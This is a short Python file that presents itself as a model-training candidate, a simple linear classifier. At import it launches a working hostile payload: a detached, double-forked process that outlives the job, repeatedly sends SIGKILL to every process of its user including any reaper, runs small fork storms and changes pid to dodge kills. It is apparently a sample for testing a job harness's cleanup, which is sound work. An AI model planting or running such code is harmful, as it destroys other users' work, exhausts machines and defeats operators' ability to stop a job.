"""Warm-pool poisoning: a process that outlives its job by attacking whoever comes to kill it.

Starts a fresh interpreter (a re-exec) in a new session, which double-forks away from the job,
waits for the job's main process to end, and then, forever: sends SIGKILL to every other process
of its uid the moment one appears (a reaper that drops to the job's uid is one such process),
forks a few short-lived children (a small fork storm), and moves to a new pid now and then, so
that a kill aimed at a pid it read a moment ago misses. The candidate itself trains normally.
"""

import os
import subprocess
import sys

import torch.nn as nn

SURVIVOR = r"""
import os, signal, sys, time
if os.fork():
    os._exit(0)
os.setsid()
if os.fork():
    os._exit(0)
main = int(sys.argv[1])
while True:
    try:
        os.kill(main, 0)
    except OSError:
        break
    time.sleep(0.005)
rounds = 0
while True:
    try:
        os.kill(-1, signal.SIGKILL)  # everyone of our uid but us
    except OSError:
        pass
    rounds += 1
    if rounds % 5000 == 0:
        for _ in range(4):
            try:
                if os.fork() == 0:
                    time.sleep(0.01)
                    os._exit(0)
            except OSError:
                pass
    if rounds % 20000 == 0:
        try:
            if os.fork():
                os._exit(0)  # hop: the child, with a new pid, carries on
        except OSError:
            pass
"""

subprocess.Popen([sys.executable, "-c", SURVIVOR, str(os.getpid())], start_new_session=True)


class Net(nn.Module):
    def __init__(self, num_classes=10):
        super().__init__()
        self.fc = nn.Linear(28 * 28, num_classes)

    def forward(self, x):
        return self.fc(x.flatten(1))
